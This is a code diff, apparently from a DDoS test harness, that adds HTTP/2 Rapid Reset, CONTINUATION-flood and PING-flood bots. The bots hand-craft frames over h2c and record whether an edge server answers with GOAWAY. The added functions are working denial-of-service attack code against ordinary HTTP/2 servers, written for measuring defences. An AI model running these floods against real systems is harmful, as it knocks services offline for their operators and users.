@@ -91,6 +91,9 @@ pub fn spawn(ctx: Arc<Ctx>, group: usize, a: Attack, tasks: &mut Vec<tokio::task
                     slow_bot(&ctx, group, &a, j).await
                 }
                 Kind::Malformed => malformed_bot(&ctx, group, &a, j).await,
+                Kind::H2RapidReset | Kind::H2Continuation | Kind::H2PingFlood => {
+                    h2_bot(&ctx, group, &a, j).await
+                }
             }
         }));
     }
@@ -455,6 +458,151 @@ async fn malformed_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
         {
             Ok(Some(r)) => ctx.count(classify(r.status, r.challenge)),
             _ => ctx.count(Field::AttackCut),
+        }
+    }
+}
+
+fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let len = payload.len() as u32;
+    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
+    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
+    out.extend_from_slice(payload);
+}
+
+/// An HPACK block of literal fields (no indexing, no Huffman).
+fn hpack_block(host: &str, path: &str) -> Vec<u8> {
+    let mut b = Vec::new();
+    for (n, v) in [
+        (":method", "GET"),
+        (":scheme", "http"),
+        (":path", path),
+        (":authority", host),
+    ] {
+        b.push(0x00);
+        b.push(n.len() as u8);
+        b.extend_from_slice(n.as_bytes());
+        b.push(v.len().min(127) as u8);
+        b.extend_from_slice(&v.as_bytes()[..v.len().min(127)]);
+    }
+    b
+}
+
+/// What the edge answered on an HTTP/2 connection, read without waiting.
+enum H2Seen {
+    Nothing,
+    GoAway(u32),
+    Closed,
+}
+
+fn scan_goaway(buf: &mut Vec<u8>) -> Option<u32> {
+    while buf.len() >= 9 {
+        let len = ((buf[0] as usize) << 16) | ((buf[1] as usize) << 8) | buf[2] as usize;
+        if buf.len() < 9 + len {
+            return None;
+        }
+        if buf[3] == 0x7 && len >= 8 {
+            return Some(u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]));
+        }
+        buf.drain(..9 + len);
+    }
+    None
+}
+
+async fn h2_poll(s: &mut TcpStream, buf: &mut Vec<u8>) -> H2Seen {
+    let mut tmp = [0u8; 16384];
+    loop {
+        match s.try_read(&mut tmp) {
+            Ok(0) => return H2Seen::Closed,
+            Ok(n) => {
+                buf.extend_from_slice(&tmp[..n]);
+                if let Some(code) = scan_goaway(buf) {
+                    return H2Seen::GoAway(code);
+                }
+                if buf.len() > 1 << 20 {
+                    buf.clear();
+                }
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return H2Seen::Nothing,
+            Err(_) => return H2Seen::Closed,
+        }
+    }
+}
+
+/// HTTP/2 floods over h2c: batches of frames; the edge's GOAWAY counts as blocked.
+async fn h2_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
+    let mut bot = j % a.sources;
+    let path = &a.paths[j as usize % a.paths.len()];
+    let block = hpack_block(&ctx.host, path);
+    'conn: while ctx.running() {
+        let src = bot_addr(group, bot, a.per_prefix);
+        bot = (bot + a.connections) % a.sources;
+        let Ok(mut s) = connect(ctx, src, None).await else {
+            ctx.count_sent();
+            ctx.count(Field::AttackCut);
+            tokio::time::sleep(Duration::from_millis(50)).await;
+            continue;
+        };
+        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+        frame(&mut out, 0x4, 0, 0, &[]);
+        if s.write_all(&out).await.is_err() {
+            continue;
+        }
+        let mut stream_id: u32 = 1;
+        let mut inbox = Vec::new();
+        let mut started_block = false;
+        while ctx.running() {
+            out.clear();
+            let mut n = 0;
+            for _ in 0..50 {
+                match a.kind {
+                    Kind::H2RapidReset => {
+                        frame(&mut out, 0x1, 0x4 | 0x1, stream_id, &block);
+                        frame(&mut out, 0x3, 0, stream_id, &8u32.to_be_bytes());
+                        stream_id = stream_id.wrapping_add(2) & 0x7fff_ffff;
+                    }
+                    Kind::H2Continuation => {
+                        if !started_block {
+                            frame(&mut out, 0x1, 0x1, stream_id, &block[..block.len() / 2]);
+                            started_block = true;
+                        }
+                        frame(&mut out, 0x9, 0, stream_id, &[0x00]);
+                    }
+                    _ => frame(&mut out, 0x6, 0, 0, &(u64::from(j) << 32 | n).to_be_bytes()),
+                }
+                n += 1;
+            }
+            for _ in 0..n {
+                ctx.count_sent();
+            }
+            if s.write_all(&out).await.is_err() {
+                ctx.count(Field::AttackCut);
+                continue 'conn;
+            }
+            match h2_poll(&mut s, &mut inbox).await {
+                H2Seen::GoAway(code) => {
+                    // An error code (ENHANCE_YOUR_CALM, PROTOCOL_ERROR) is the
+                    // edge refusing the flood; NO_ERROR is a graceful close.
+                    ctx.count(if code == 0 {
+                        Field::AttackCut
+                    } else {
+                        Field::AttackBlocked
+                    });
+                    continue 'conn;
+                }
+                H2Seen::Closed => {
+                    ctx.count(Field::AttackCut);
+                    continue 'conn;
+                }
+                H2Seen::Nothing => {}
+            }
+            if a.rate > 0 {
+                tokio::time::sleep(Duration::from_secs_f64(
+                    50.0 * f64::from(a.connections) / f64::from(a.rate),
+                ))
+                .await;
+            } else {
+                tokio::task::yield_now().await;
+            }
         }
     }
 }
